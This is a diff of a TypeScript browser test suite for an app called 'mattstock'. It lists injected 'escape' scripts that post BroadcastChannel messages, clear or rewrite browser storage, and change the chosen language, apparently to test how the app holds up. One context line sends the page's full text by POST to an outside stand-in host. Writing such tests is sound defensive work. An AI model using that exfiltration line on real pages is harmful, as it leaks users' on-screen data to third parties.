@@ -262,7 +262,7 @@ export const escapes: readonly Escape[] = [
     'messages to the tabs of the app',
     `
     const line = new BroadcastChannel('mattstock')
-    for (const said of [{ lock: true }, { written: 'practice' }, { open: true }, 'unlock']) line.postMessage(said)`,
+    for (const said of [{ handedOver: 'x' }, { entered: 'x' }, { erased: 'x' }, { written: 'x' }, { open: true }, 'unlock']) line.postMessage(said)`,
   ),
   script(
     'messages to the window',
@@ -317,7 +317,7 @@ export const escapes: readonly Escape[] = [
     "fetch('https://example.org/', { method: 'POST', body: document.body.innerText, mode: 'no-cors' }).catch(() => 0)",
   ),
   scriptThenReload('an emptied memory of the tab', 'sessionStorage.clear(); localStorage.clear()'),
-  scriptThenReload('the other unit chosen by hand', "sessionStorage.setItem('mattstock-place', 'unit')"),
+  scriptThenReload('another unit chosen by hand', "sessionStorage.setItem('mattstock-place', 'new-practice')"),
   does('another language chosen by hand', async ({ page }) => {
     await page.evaluate("localStorage.setItem('mattstock-language', 'en')")
     await page.reload({ waitUntil: 'domcontentloaded' })
